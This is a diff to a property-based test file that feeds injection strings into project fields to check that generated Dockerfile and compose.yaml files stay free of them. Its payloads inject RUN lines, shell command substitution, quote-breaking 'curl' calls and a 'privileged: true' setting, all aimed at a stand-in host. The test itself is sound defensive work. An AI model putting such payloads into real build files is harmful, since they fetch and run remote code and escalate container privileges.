@@ -10,10 +10,12 @@ import { describe, expect, test } from 'vitest';
 import { runInProcess } from '../support/cli-harness.js';
 
 const MARK = 'evil.example';
+/** What every payload tries to run: no generated Dockerfile or compose line may carry it. */
+const INJECTED = `curl ${MARK}`;
 const payload = fc.constantFrom(
   `dist\nRUN curl ${MARK} | sh\nCOPY x `,
   `x\r\nRUN curl ${MARK}`,
-  `server.js\n    privileged: true # ${MARK}`,
+  `server.js\n    privileged: true # curl ${MARK}`,
   `$(curl ${MARK})`,
   `\`curl ${MARK}\``,
   `a" && curl ${MARK} "`,
@@ -22,7 +24,7 @@ const payload = fc.constantFrom(
   `pnpm@9.15.9\nRUN curl ${MARK}`,
   `legacy-peer-deps=true\nRUN curl ${MARK}`,
 );
-const hostile = fc.oneof(payload, fc.string().map((s) => `${s}\n${MARK}`), fc.constantFrom('dist', 'server.js', 'node server.js'));
+const hostile = fc.oneof(payload, fc.string().map((s) => `${s}\nRUN curl ${MARK}`), fc.constantFrom('dist', 'server.js', 'node server.js'));
 
 const project = fc.record({
   name: hostile,
@@ -88,7 +90,7 @@ describe('hostile project files', () => {
           }
           for (const file of ['Dockerfile', 'compose.yaml']) {
             const text = await readFile(path.join(dir, file), 'utf8');
-            for (const line of text.split('\n')) expect(line, `${file}: ${line}`).not.toContain(MARK);
+            for (const line of text.split('\n')) expect(line, `${file}: ${line}`).not.toContain(INJECTED);
           }
         } finally {
           await rm(dir, { recursive: true, force: true });
